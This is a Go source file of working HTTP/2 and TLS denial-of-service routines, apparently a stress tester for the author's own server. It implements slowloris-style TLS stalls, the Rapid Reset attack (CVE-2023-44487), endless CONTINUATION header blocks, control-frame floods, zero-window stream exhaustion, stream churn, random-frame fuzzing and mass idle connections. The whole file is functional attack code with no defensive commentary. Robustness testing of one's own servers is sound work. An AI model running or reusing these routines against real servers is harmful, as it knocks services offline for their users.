package main

import (
	"bytes"
	"context"
	"crypto/rand"
	"io"
	mathrand "math/rand/v2"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
)

// slowTLS connects and does not finish: a third say nothing, a third send a ClientHello a byte at a time, and a third stop
// behind the handshake.
func slowTLS(ctx context.Context, a *attack) {
	a.busy(ctx, 1000, true, func(ctx context.Context, i int, c net.Conn) {
		switch i % 3 {
		case 1:
			_, err := c.Write([]byte("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"))
			for err == nil && every(ctx, time.Second) {
				_, err = c.Write([]byte("a"))
			}
		case 2:
			secured(c).HandshakeContext(ctx)
		}
		io.Copy(io.Discard, c)
	})
}

// rapidReset opens streams and resets them at once (CVE-2023-44487): WebSockets, CGI programs, and what is answered with
// an error.
func rapidReset(ctx context.Context, a *attack) {
	a.peers(ctx, 8, func(ctx context.Context, _ int, p *peer) {
		go p.read(ctx, a, nil)
		for {
			for range 30 {
				p.connect("/echo")
				p.get("/cgi")
				p.get("/missing")
				for id := p.stream - 6; id < p.stream; id += 2 {
					p.WriteRSTStream(id, http2.ErrCodeCancel)
				}
			}
			if p.out.Flush() != nil {
				return
			}
			a.did("streams", 90)
		}
	})
}

// headers has both.
func headers(ctx context.Context, a *attack) {
	var both sync.WaitGroup
	both.Go(func() { endlessHeaders(ctx, a) })
	both.Go(func() { randomHTTP2(ctx, a) })
	both.Wait()
}

// largeField is a header field, as a literal (RFC 7541, section 6.2.2) that fills a frame.
var largeField = append([]byte{0x00, 0x01, 'x', 0x7f, 0xfb, 0x7e}, bytes.Repeat([]byte("a"), 16384-6)...)

// endlessHeaders sends header blocks that never end: of large fields, of empty frames, and a byte a second.
func endlessHeaders(ctx context.Context, a *attack) {
	a.peers(ctx, 12, func(ctx context.Context, i int, p *peer) {
		go p.read(ctx, a, nil)
		first := p.fields(":method", "GET", ":scheme", "http", ":path", "/echo", ":authority", "localhost")
		p.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: first})
		for {
			var next []byte
			switch i / 2 % 3 {
			case 0:
				next = largeField
			case 1:
				next = nil
			case 2:
				next = []byte{0x00}
				every(ctx, time.Second)
			}
			if p.WriteContinuation(1, false, next) != nil || i/2%3 != 1 && p.out.Flush() != nil {
				return
			}
			a.did("frames", 1)
		}
	})
}

// controlFrames sends SETTINGS and PING, which have to be answered. Half of the connections do not read the answers.
func controlFrames(ctx context.Context, a *attack) {
	a.peers(ctx, 8, func(ctx context.Context, i int, p *peer) {
		if i%4 < 2 {
			go p.read(ctx, a, nil)
		}
		for {
			for range 100 {
				p.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: mathrand.Uint32N(1 << 20)})
				p.WritePing(false, [8]byte{})
			}
			if p.out.Flush() != nil {
				return
			}
			a.did("frames", 200)
		}
	})
}

// unreadStreams has as many sessions on each of three connections as there may be, whose programs send as much as they can.
// Nothing is taken of it: the windows are 0, or are never opened again.
func unreadStreams(ctx context.Context, a *attack) {
	unread := func(n int, window uint32) func() {
		return func() {
			a.peers(ctx, n, func(ctx context.Context, _ int, p *peer) {
				for range 256 {
					p.connect("/flood")
				}
				p.out.Flush()
				p.read(ctx, a, nil)
			}, http2.Setting{ID: http2.SettingInitialWindowSize, Val: window})
		}
	}
	var both sync.WaitGroup
	both.Go(unread(2, 0))
	both.Go(unread(1, 1<<20))
	both.Wait()
}

// unreadAnswers asks for what is not there, and does not take the answers.
func unreadAnswers(ctx context.Context, a *attack) {
	a.peers(ctx, 32, func(ctx context.Context, i int, p *peer) {
		for range 256 {
			p.get("/missing")
		}
		a.did("requests", 256)
		p.out.Flush()
		var ended int
		p.read(ctx, a, func(f http2.Frame, _ string) {
			if _, ok := f.(*http2.RSTStreamFrame); ok {
				a.did("reset by the server", 1)
				if ended++; ended == 256 {
					a.drop(p.raw())
				}
			}
		})
	}, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
}

// churn opens and ends sessions as fast as it can, 16 at a time on each of eight connections: half of them by a Close, the
// others by a reset, as soon as their program has said something.
func churn(ctx context.Context, a *attack) {
	hello, bye := frame(0x81, []byte("hello")), frame(0x88, nil)
	a.peers(ctx, 8, func(ctx context.Context, _ int, p *peer) {
		closing := make(map[uint32]bool)
		next := func() {
			if p.stream > 20_000 { // another connection
				a.drop(p.raw())
			}
			p.connect("/echo")
		}
		for range 16 {
			next()
		}
		p.out.Flush()
		p.read(ctx, a, func(f http2.Frame, status string) {
			id := f.Header().StreamID
			switch f := f.(type) {
			case *http2.HeadersFrame:
				if status == "200" {
					p.WriteData(id, false, hello)
				} else if f.StreamEnded() {
					next()
				}
			case *http2.DataFrame:
				p.WriteWindowUpdate(0, max(1, f.Length))
				switch {
				case f.StreamEnded():
					if closing[id] {
						a.did("closed", 1)
					}
					delete(closing, id)
					next()
				case closing[id]:
				case id%4 == 1:
					closing[id] = true
					p.WriteData(id, true, bye)
				default:
					p.WriteRSTStream(id, http2.ErrCodeCancel)
					a.did("reset", 1)
					next()
				}
			}
			p.out.Flush()
		})
	})
}

// randomHTTP2 sends random bytes behind the preface, or frames with random contents.
func randomHTTP2(ctx context.Context, a *attack) {
	a.peers(ctx, 8, func(ctx context.Context, i int, p *peer) {
		b := make([]byte, 4096)
		rand.Read(b)
		p.SetDeadline(time.Now().Add(time.Second))
		if i < 4 {
			p.out.Write(b)
		} else {
			p.connect("/echo")
			for len(b) > 200 {
				n := int(b[0]) % 100
				p.WriteRawFrame(http2.FrameType(b[1]%10), http2.Flags(b[2]), uint32(b[3]%4), b[4:4+n])
				b = b[4+n:]
			}
		}
		p.out.Flush()
		io.Copy(io.Discard, p.Conn)
	})
}

// idleHTTP2 has 2,000 connections at a time on which nothing is asked.
func idleHTTP2(ctx context.Context, a *attack) {
	a.peers(ctx, 2000, func(ctx context.Context, _ int, p *peer) {
		p.read(ctx, a, nil)
		every(ctx, time.Second)
	})
}
